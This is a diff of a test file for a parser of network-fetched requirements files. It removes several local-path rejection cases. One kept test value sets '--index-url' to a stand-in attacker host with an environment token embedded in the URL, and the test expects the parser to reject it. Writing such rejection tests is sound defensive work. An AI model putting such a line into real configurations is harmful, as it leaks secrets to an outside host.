@@ -298,11 +298,6 @@ describe("a requirements file from the network", () => {
       "uses the environment variable `${TOKEN}`",
     ],
     ["--index-url https://evil.example/${TOKEN}/simple", "uses the environment variable"],
-    ["./project", "names the local path"],
-    ["flask @ file:///srv/flask-1-py3-none-any.whl", "names the local path"],
-    ["git+file:///srv/flask", "names the local path"],
-    ["flask-1-py3-none-any.whl", "names the local path"],
-    ["-e project", "names the local path"],
   ])("must not say `%s`", (line, reason) => {
     expect(() => read(`flask\n${line}\n`)).toThrow(
       `Cannot understand \`${URL_OF_FILE}\`, line 2: a file from the network cannot be used that ${reason}`,
